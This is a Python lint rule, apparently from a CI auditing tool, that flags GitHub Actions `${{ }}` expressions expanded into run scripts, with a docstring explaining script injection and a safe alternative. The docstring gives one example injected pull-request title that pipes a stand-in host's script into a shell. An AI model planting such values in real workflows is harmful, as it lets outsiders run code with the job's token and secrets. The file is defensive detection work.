"""## What it does
Finds `${{ }}` expressions expanded inside `run:` scripts and `actions/github-script` scripts.

## Why is this bad?
GitHub substitutes an expression into the script text before the shell runs it. A value someone else controls (a pull
request title, a branch name, an issue body, a workflow input, an output computed from them) then becomes shell
code: a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.

## Example
```yaml
- run: echo "${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "$TITLE"
```
The value reaches the script as data in an environment variable and is never parsed as code.

## References
- GitHub, "Security hardening for GitHub Actions: understanding the risk of script injections"
- zizmor `template-injection`; actionlint `expression`; checkov CKV_GHA_2
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from scaffold.audit.document import Document
from scaffold.audit.model import Confidence, Hit, Kind, Severity
from scaffold.rules.github.workflow import action_name, jobs, step_input, steps

ID = "template-injection"
SEVERITY = Severity.HIGH
CONFIDENCE = Confidence.MEDIUM
KINDS = (Kind.WORKFLOW,)

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Contexts nobody outside the repository's writers can set, and that cannot carry shell syntax.
_SAFE = re.compile(
    r"\s*(?:github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|"
    r"workspace|action_path|"
    r"server_url|api_url|graphql_url|job|event_name|retention_days)|runner\.\w+|strategy\.\w+|job\.status|"
    r"secrets\.\w+|[0-9]+|true|false|null)\s*"
)


def check(document: Document) -> Iterator[Hit]:
    for name, job in jobs(document):
        for step in steps(job):
            script = step.get("run")
            uses = step.get("uses")
            if uses is not None and uses.text and action_name(uses.text) == "actions/github-script":
                script = step_input(step, "script")
            if script is None or script.text is None:
                continue
            seen: dict[str, int] = {}
            for expression in unsafe_expressions(script.text):
                literal = "${{" + expression + "}}"
                seen[literal] = seen.get(literal, 0) + 1
                line, column = _position(document, script.line, literal, seen[literal])
                yield Hit(line, column, f"job {name}: ${{{{{expression}}}}} is expanded into a script")


def unsafe_expressions(script: str) -> list[str]:
    """The expressions in a script whose value could carry shell syntax, in order."""
    return [match.group(1) for match in EXPRESSION.finditer(script) if not _SAFE.fullmatch(match.group(1))]


def _position(document: Document, first_line: int, literal: str, occurrence: int) -> tuple[int, int]:
    """The line and column of the n-th occurrence of an expression, searching from the script's first line."""
    count = 0
    for number in range(first_line, len(document.lines) + 1):
        start = 0
        while (column := document.lines[number - 1].find(literal, start)) >= 0:
            count += 1
            if count == occurrence:
                return number, column + 1
            start = column + len(literal)
    return first_line, 1
